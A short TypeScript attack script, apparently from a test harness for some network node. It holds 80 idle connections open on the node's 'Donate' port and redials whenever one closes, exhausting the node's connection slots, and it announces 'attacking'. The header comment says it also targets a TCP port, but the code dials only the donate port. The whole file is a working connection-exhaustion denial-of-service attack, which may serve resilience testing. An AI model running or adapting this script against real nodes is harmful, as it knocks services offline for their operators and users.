/** Holds as many silent connections at the Donate and TCP doors as the node accepts, and dials again when one is closed. */
import { setTimeout as wait } from 'node:timers/promises';
import { dial, say, target } from './sockets.ts';

const SOCKETS = 80;
const REDIAL_MS = 100;

const { donate } = target();

async function sit(port: number): Promise<void> {
  for (;;) {
    try {
      const socket = await dial(port);
      socket.resume();
      await new Promise((resolve) => socket.once('close', resolve));
    } catch {
      // Refused: the door is full, so try again.
    }
    await wait(REDIAL_MS);
  }
}

const seats = Array.from({ length: SOCKETS }, () => sit(donate));
await wait(1_000);
say('attacking');
await Promise.all(seats);
